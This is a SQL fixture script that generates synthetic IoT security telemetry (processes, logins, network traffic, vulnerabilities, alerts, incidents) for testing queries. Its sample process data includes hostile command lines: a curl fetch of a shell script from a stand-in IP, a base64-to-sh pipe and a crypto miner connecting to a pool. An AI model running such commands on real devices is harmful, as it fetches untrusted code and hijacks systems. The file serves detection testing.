-- Rows for the questions of this folder: eight days of a small fleet up to 2026-11-21 10:00, the tests' now().
CREATE TEMP MACRO pick(list, i) AS list[1 + (i) % len(list)];
CREATE TEMP MACRO device(i) AS pick(['berlin', 'oslo', 'porto'], i) || '-' || pick(['pump', 'gateway', 'camera', 'plc'], i) || '-'
  || lpad(((i) % 12)::VARCHAR, 2, '0');
CREATE TEMP MACRO before(minutes) AS TIMESTAMP '2026-11-21 09:59:00' - to_minutes((minutes)::BIGINT);

INSERT INTO ProcessEvents BY NAME
SELECT before(i * 18) AS TimeGenerated, before(i * 18) AS TimeStamp, device(i) AS DeviceId, 'hub' AS Hub, 'picket' AS ModuleId,
  '3.1' AS AgentVersion, 'p' || i AS IoTRawEventId, 'Triggered' AS RawEventCategory, 'Security' AS RawEventType,
  pick(['ProcessCreate', 'ProcessCreate', 'ProcessTerminate'], i) AS RawEventName,
  pick(['/usr/bin/curl', '/bin/sh', '/usr/sbin/sshd', '/opt/pump/control', '/usr/bin/python3', '/tmp/.x/miner', '/usr/bin/wget'], i) AS Executable,
  pick(['curl -s http://198.51.100.7/a.sh', 'sh -c "echo ZWNobw== | base64 -d"', 'sshd -D', 'control --rate=5', 'python3 -m http.server 8080',
    'miner -o stratum+tcp://pool.example:3333', 'wget -q https://updates.example/fw.bin'], i) AS CommandLine,
  pick(['/bin/sh', '/usr/sbin/cron', '/sbin/init'], i) AS ParentExecutable, 1000 + i AS ProcessId, 1 + i % 40 AS ParentProcessId,
  pick(['root', 'operator', 'www-data'], i // 2) AS UserName, pick(['0', '1000', '33'], i // 2) AS UserId, 'ebpf' AS Source,
  CASE WHEN i % 9 = 0 THEN 'c' || (i % 4) ELSE '' END AS ContainerId, i % 35 = 5 AS ExecutableDeleted, 1 + i % 3 AS HitCount,
  CASE WHEN i % 3 = 2 THEN i % 2 END AS ExitStatus, CASE WHEN i % 3 = 2 THEN 100 + i * 7 END AS DurationMs
FROM range(640) r(i);

INSERT INTO NetworkEvents BY NAME
SELECT before(i * 18) AS TimeGenerated, before(i * 18) AS TimeStamp, device(i) AS DeviceId, 'hub' AS Hub, 'picket' AS ModuleId,
  'n' || i AS IoTRawEventId, 'Triggered' AS RawEventCategory, 'Security' AS RawEventType,
  pick(['ConnectionCreate', 'ConnectionCreate', 'Dns', 'ListeningPorts'], i) AS RawEventName,
  pick(['198.51.100.7', '10.1.0.20', '203.0.113.44', '192.168.7.9', '2001:db8::7'], i) AS RemoteAddress,
  pick(['443', '502', '3333', '22', '1883'], i) AS RemotePort, '10.1.0.' || (10 + i % 12) AS LocalAddress,
  pick(['8080', '22', '502', '50321'], i) AS LocalPort, pick(['Out', 'In'], i) AS Direction, pick(['tcp', 'udp'], i // 3) AS Protocol,
  pick(['/usr/bin/curl', '/opt/pump/control', '/tmp/.x/miner', '/usr/sbin/sshd', '/usr/bin/wget'], i) AS Executable, 1000 + i AS ProcessId,
  pick(['root', 'operator'], i) AS UserName, pick(['updates.example', 'pool.example', ''], i) AS RemoteHostName,
  pick(['Success', 'Success', 'Fail'], i) AS Result, 1 + i % 5 AS HitCount, i % 3 AS FailCount, 500 + (i * 37) % 9000 AS BytesIn,
  200 + (i * 53) % 20000 AS BytesOut, 10 + i % 500 AS DurationMs,
  CASE WHEN i % 4 = 2 THEN pick(['updates.example', 'a9f3k2j1x8.pool.example', 'ntp.example'], i) ELSE '' END AS QueryName,
  CASE WHEN i % 4 = 2 THEN 'A' ELSE '' END AS QueryType, CASE WHEN i % 4 = 2 THEN pick(['NOERROR', 'NXDOMAIN'], i // 4) ELSE '' END AS ResponseCode
FROM range(640) r(i);

INSERT INTO LoginEvents BY NAME
SELECT before(i * 28) AS TimeGenerated, before(i * 28) AS TimeStamp, device(i + i // 7) AS DeviceId, 'hub' AS Hub, 'picket' AS ModuleId,
  'l' || i AS IoTRawEventId, 'Triggered' AS RawEventCategory, 'Security' AS RawEventType, 'Login' AS RawEventName,
  pick(['Success', 'Fail', 'Fail'], i) AS Result, CASE WHEN i < 40 AND i % 5 = 0 THEN 'visitor' ELSE pick(['root', 'operator', 'admin', 'backup'], i // 2) END AS UserName,
  pick(['198.51.100.7', '10.1.0.20', '192.168.7.9', '203.0.113.44', ''], i) AS RemoteAddress, pick(['ssh', 'local', 'ssh'], i) AS Method,
  pick(['/usr/sbin/sshd', '/bin/login'], i) AS Executable, pick(['pts/0', 'ttyS0'], i) AS Tty, 1 + i % 4 AS HitCount, i % 3 AS FailCount,
  pick(['wheel,adm', 'users', ''], i) AS GroupNames, 's' || (i % 50) AS LogonId, 2000 + i AS ProcessId
FROM range(410) r(i);

INSERT INTO FileEvents BY NAME
SELECT before(i * 40) AS TimeGenerated, before(i * 40) AS TimeStamp, device(i) AS DeviceId, 'hub' AS Hub, 'picket' AS ModuleId,
  'f' || i AS IoTRawEventId, 'Triggered' AS RawEventCategory, 'Security' AS RawEventType, 'FileSystem' AS RawEventName,
  pick(['/etc/passwd', '/etc/cron.d/update', '/root/.ssh/authorized_keys', '/tmp/.x/miner', '/opt/pump/control.conf'], i) AS Path,
  pick(['MODIFY', 'CREATE', 'ATTRIB', 'DELETE'], i) AS Mask, pick(['/bin/sh', '/usr/bin/vi', '/usr/bin/dpkg'], i) AS Executable,
  1000 + i AS ProcessId, pick(['root', 'operator'], i) AS UserName, sha256(('x' || i % 7)::VARCHAR) AS Hash, 1 AS HitCount
FROM range(290) r(i);

INSERT INTO DeviceEvents BY NAME
SELECT before(i * 25) AS TimeGenerated, before(i * 25) AS TimeStamp, device(i) AS DeviceId, 'hub' AS Hub, 'picket' AS ModuleId,
  'd' || i AS IoTRawEventId, pick(['Periodic', 'Triggered'], i) AS RawEventCategory, pick(['Security', 'Operational', 'Diagnostic'], i) AS RawEventType,
  pick(['SBoM', 'Baseline', 'Peripheral', 'SystemInformation', 'Statistics', 'Heartbeat', 'Log'], i) AS RawEventName,
  pick(['openssl', 'busybox', 'zlib'], i) AS Name, pick(['3.0.11', '1.36.1', '1.2.13', '3.0.15'], i) AS Version, 'Debian' AS Vendor,
  pick(['CCE-1', 'CCE-2', 'CCE-3'], i) AS CceId, 'check ' || (i % 4) AS BaselineCheckId, pick(['PASS', 'FAIL', 'FAIL', 'NOAPPLICABLE'], i // 7 + i // 84) AS BaselineCheckResult,
  pick(['High', 'Medium', 'Low'], i) AS BaselineCheckSeverity, 'a setting of ssh' AS BaselineCheckDescription,
  pick(['Usb', 'Serial'], i) AS PeripheralType, pick(['Connected', 'Disconnected'], i // 7) AS ActionType, pick(['0x0951', '0x1a86'], i) AS VendorId,
  pick(['0x1666', '0x7523'], i) AS ProductId, pick(['Debian', 'Yocto'], i) AS OSName, pick(['12', '4.0'], i) AS OSVersion, 'armv7l' AS OsArchitecture,
  'Acme' AS HardwareVendor, pick(['P100', 'G20'], i) AS HardwareModel, pick(['1.4.2', '1.4.10', '1.5.0'], i) AS FirmwareVersion,
  CASE WHEN i % 7 = 4 THEN (i * 3) % 50 END AS DroppedEvents, CASE WHEN i % 7 = 4 THEN 900 + i END AS CollectedEvents,
  pick(['High', 'Low', 'Operational'], i) AS Queue, CASE WHEN i % 7 = 4 THEN 30 + i % 9 END AS MessagesSent, CASE WHEN i % 7 = 4 THEN i % 3 END AS TotalFailed,
  pick(['Warning', 'Error'], i) AS Level, 'queue "high" is full; dropped=3; since=10m' AS Message,
  '{"Name":"openssl","Version":"3.0.11","ExtraDetails":{"Site":"' || pick(['berlin', 'oslo', 'porto'], i) || '","Rack":' || (i % 4) || '}}' AS EventDetails
FROM range(460) r(i);

INSERT INTO RawEvents BY NAME
SELECT * FROM (SELECT COLUMNS(c -> c IN ('TimeGenerated', 'TimeStamp', 'DeviceId', 'Hub', 'ModuleId', 'IoTRawEventId', 'RawEventCategory',
  'RawEventName', 'RawEventType', 'EventDetails')) FROM DeviceEvents);
INSERT INTO SecurityIoTRawEvent BY NAME
SELECT TimeGenerated, TimeStamp, DeviceId, IoTRawEventId, RawEventName, RawEventType, RawEventCategory,
  '{"Executable":"' || Executable || '","UserName":"' || UserName || '","HitCount":' || HitCount || '}' AS EventDetails FROM ProcessEvents
UNION ALL BY NAME SELECT TimeGenerated, TimeStamp, DeviceId, IoTRawEventId, RawEventName, RawEventType, RawEventCategory,
  '{"RemoteAddress":"' || RemoteAddress || '","RemotePort":"' || RemotePort || '","BytesOut":' || BytesOut || '}' AS EventDetails FROM NetworkEvents;

INSERT INTO HubOperations BY NAME
SELECT before(i * 21) AS TimeGenerated, 'hub' AS Hub, pick(['Connections', 'Connections', 'Access', 'Administration', 'TwinChanges'], i) AS Category,
  pick(['deviceConnect', 'deviceDisconnect', 'signIn', 'createDevice', 'twinUpdate'], i) AS OperationName,
  pick(['connection.open', 'connection.close', 'access.sign_in', 'registry.create', 'twin.update'], i) AS Kind,
  pick(['Information', 'Warning', 'Error'], i) AS Level, pick(['200', '401003', '200', '404104'], i) AS ResultType,
  pick(['', 'the signature is wrong', '', 'no such device'], i) AS ResultDescription, device(i + i // 7) AS DeviceId, '' AS ModuleId,
  pick(['admin', 'operator', 'device'], i) AS Actor, pick(['198.51.100.7', '10.1.0.20', '203.0.113.44'], i) AS CallerIp,
  pick(['Mqtt', 'Amqp', 'Https'], i // 2) AS Protocol, pick(['TCP', 'WebSocket'], i) AS Transport, pick(['TLSv1.2', 'TLSv1.3', 'TLSv1.3'], i) AS TlsVersion,
  pick(['ECDHE-RSA-AES128-GCM-SHA256', 'TLS_AES_256_GCM_SHA384', 'TLS_AES_256_GCM_SHA384'], i) AS TlsCipher,
  TIMESTAMP '2026-12-01 00:00:00' + to_days((i % 90)::INTEGER) AS CertificateNotAfter, sha256((i % 12)::VARCHAR) AS CertificateThumbprint,
  'CN=fleet ca' AS CertificateIssuer, pick(['sas', 'x509'], i // 12) AS AuthType, 'device' AS AuthScope, pick(['', 'iothubowner'], i) AS PolicyName,
  before(i * 21 - 3600) AS TokenExpiry, pick(['node 1.18', 'python 2.12', 'c 1.9'], i) AS SdkVersion, 'devices/' || device(i + i // 7) AS Object,
  1 + i % 3 AS Count, 100 + i AS Bytes, 5 + i % 200 AS DurationMs, '{"changed":["tags.site"],"attempt":' || (i % 4) || ',"place":{"lat":52.5,"lng":13.4}}' AS Details
FROM range(540) r(i);

INSERT INTO DeadLetter BY NAME
SELECT before(i * 200) AS TimeGenerated, 'hub' AS Hub, device(i) AS DeviceId, 'picket' AS ModuleId, pick(['malformed', 'limit_exceeded', 'unsupported'], i) AS Reason,
  pick(['json.object', 'message.size', 'message.version'], i) AS "Where", i * 3 AS "Offset", 400 + i * 100 AS Size, 'application/json' AS ContentType,
  'm' || i AS MessageId, to_base64(('{"broken' || i)::BLOB) AS Bytes
FROM range(50) r(i);

INSERT INTO SoftwareInventory BY NAME
SELECT before(i * 45) AS TimeGenerated, 'hub' AS Hub, device(i) AS DeviceId, pick(['Installed', 'Installed', 'Installed', 'Removed'], i) AS State,
  i % 5 = 0 AS IsSnapshot, pick(['openssl', 'busybox', 'zlib1g', 'python3.11', 'dropbear'], i) AS SoftwareName,
  pick(['3.0.11-1~deb12u2', '1.36.1-r5', '1:1.2.13.dfsg-1', '3.11.2-6', '2022.83-1', '3.0.15-1~deb12u1'], i) AS SoftwareVersion,
  pick(['Debian', 'Alpine'], i) AS SoftwareVendor, pick(['deb', 'apk', 'deb', 'pypi'], i) AS PackageType, pick(['armhf', 'amd64'], i) AS Architecture,
  pick(['openssl', 'busybox', 'zlib', 'python3.11', 'dropbear'], i) AS SourceName, '1' AS SourceVersion,
  'pkg:deb/debian/' || pick(['openssl', 'busybox', 'zlib1g', 'python3.11', 'dropbear'], i) || '@1?arch=armhf&distro=debian-12' AS PackageUrl,
  pick(['dpkg', 'apk', 'requirements'], i) AS Evidence
FROM range(250) r(i);

INSERT INTO SoftwareVulnerabilities BY NAME
SELECT before(i * 45) AS TimeGenerated, 'hub' AS Hub, device(i % 85) AS DeviceId, pick(['Affected', 'Affected', 'Affected', 'Resolved'], i) AS State,
  i % 5 = 0 AS IsSnapshot, 'CVE-' || (2022 + i % 5) || '-' || (1000 + i % 17) AS CveId,
  pick(['Critical', 'High', 'Medium', 'Low'], i // 2) AS VulnerabilitySeverityLevel, 3.5 + (i % 13) / 2.0 AS CvssScore, i % 11 = 0 AS IsExploited,
  pick(['openssl', 'busybox', 'zlib1g', 'dropbear'], i) AS SoftwareName, '3.0.11-1~deb12u2' AS SoftwareVersion, 'Debian' AS SoftwareVendor,
  'armhf' AS Architecture, pick(['openssl', 'busybox', 'zlib', 'dropbear'], i) AS SourceName, '3.0.11-1' AS SourceVersion,
  'pkg:deb/debian/' || pick(['openssl', 'busybox', 'zlib1g', 'dropbear'], i) || '@3.0.11' AS PackageUrl,
  CASE WHEN i % 3 = 0 THEN '' ELSE '3.0.15-1~deb12u1' END AS RecommendedSecurityUpdate, 'DSA-' || (5000 + i % 9) AS RecommendedSecurityUpdateId,
  pick(['open', 'accepted', 'not_affected'], i // 3) AS Status, pick(['exact', 'name'], i) AS Confidence, pick(['debian', 'osv', 'nvd'], i) AS Feed,
  'version below' AS Rule, '' AS Reason, CASE WHEN i % 6 = 0 THEN 'vulnerable_code_not_in_execute_path' ELSE '' END AS Statement,
  'a heap overflow in a parser of certificates' AS VulnerabilityDescription, 'https://security.example/' || (i % 17) AS Url,
  TIMESTAMP '2026-06-01 00:00:00' + to_days((i % 150)::INTEGER) AS PublishedDate
FROM range(250) r(i);

INSERT INTO SecurityAlert BY NAME
SELECT before(i * 90) AS TimeGenerated, before(i * 90 + 5) AS StartTime, before(i * 90 + 1) AS EndTime, before(i * 90) AS ProcessingEndTime,
  'a' || (i % 90) AS SystemAlertId, pick(['Crypto miner', 'Brute force', 'New listening port', 'Firmware change'], i) AS AlertName,
  pick(['Crypto miner', 'Brute force', 'New listening port', 'Firmware change'], i) AS DisplayName,
  pick(['IoT_CryptoMiner', 'IoT_BruteForce', 'IoT_Port', 'IoT_Firmware'], i) AS AlertType, pick(['High', 'Medium', 'Low', 'Informational'], i) AS AlertSeverity,
  device(i + i // 7) AS CompromisedEntity, pick(['New', 'InProgress', 'Resolved'], i // 2) AS Status, 'IoTSecurity' AS ProviderName, 'Azure Security Center for IoT' AS ProductName,
  pick(['Execution', 'CredentialAccess', 'Persistence,Discovery'], i) AS Tactics, '["T1496","T1110"]' AS Techniques, 'Microsoft' AS VendorName, 'tenant' AS TenantId,
  '{"DeviceId":"' || device(i + i // 7) || '","SourceDeviceAddress":"10.1.0.' || (i % 20) || '","isNew":"' || (i % 2 = 0) || '","Count":' || i || '}' AS ExtendedProperties,
  '[{"$id":"1","Type":"host","HostName":"' || device(i + i // 7) || '"},{"$id":"2","Type":"ip","Address":"198.51.100.' || (i % 9) || '"}]' AS Entities,
  '["Look at the process","Remove it"]' AS RemediationSteps, 0.5 + (i % 5) / 10.0 AS ConfidenceScore, false AS IsIncident
FROM range(130) r(i);

INSERT INTO SecurityRecommendation BY NAME
SELECT before(i * 120) AS TimeGenerated, before(i * 120 + 300) AS DiscoveredTimeUTC, device(i) AS DeviceId, 'r' || (i % 30) AS RecommendationId,
  pick(['IoT_OpenPorts', 'IoT_WeakCipher', 'IoT_Baseline', 'IoT_Permissive firewall'], i) AS RecommendationName,
  pick(['Close open ports', 'Use strong ciphers', 'Mend the baseline', 'Tighten the firewall'], i) AS RecommendationDisplayName,
  pick(['High', 'Medium', 'Low'], i) AS RecommendationSeverity, pick(['Active', 'Active', 'Resolved'], i // 2) AS RecommendationState,
  before(i * 120 + 290) AS FirstEvaluationDate, before(i * 120) AS StatusChangeDate, false AS IsSnapshot, 'IoTSecurity' AS ProviderName,
  '{"ports":[' || (20 + i % 5) || ',502],"rules":{"in":' || (i % 3) || '}}' AS RecommendationAdditionalData, 'subscriptions/x/' || device(i) AS AssessedResourceId
FROM range(95) r(i);

INSERT INTO SecurityIncident BY NAME
SELECT before(i * 240) AS TimeGenerated, before(i * 240 + 200) AS CreatedTime, before(i * 240 + 260) AS FirstActivityTime, before(i * 240 + 10) AS LastActivityTime,
  before(i * 240 + 190) AS FirstModifiedTime, before(i * 240) AS LastModifiedTime, CASE WHEN i % 3 = 0 THEN before(i * 240) END AS ClosedTime,
  1 + i % 25 AS IncidentNumber, 'i' || (i % 25) AS IncidentName, pick(['Crypto miner on pumps', 'Brute force of gateways', 'Firmware of cameras'], i) AS Title,
  pick(['High', 'Medium', 'Low'], i) AS Severity, pick(['Closed', 'New', 'Active'], i) AS Status, pick(['TruePositive', '', ''], i) AS Classification,
  CASE WHEN i % 3 = 0 THEN 'SuspiciousActivity' ELSE '' END AS ClassificationReason, 'Picket' AS ProviderName,
  '["a' || (i % 90) || '","a' || ((i + 1) % 90) || '"]' AS AlertIds, '["rule' || (i % 4) || '"]' AS RelatedAnalyticRuleIds,
  '{"assignedTo":"' || pick(['ana', 'ben', ''], i) || '"}' AS Owner, '[{"labelName":"plant"},{"labelName":"' || pick(['night', 'day'], i) || '"}]' AS Labels,
  '{"alertsCount":2,"tactics":["Execution"]}' AS AdditionalData, '[{"message":"looked at it"}]' AS Comments
FROM range(48) r(i);
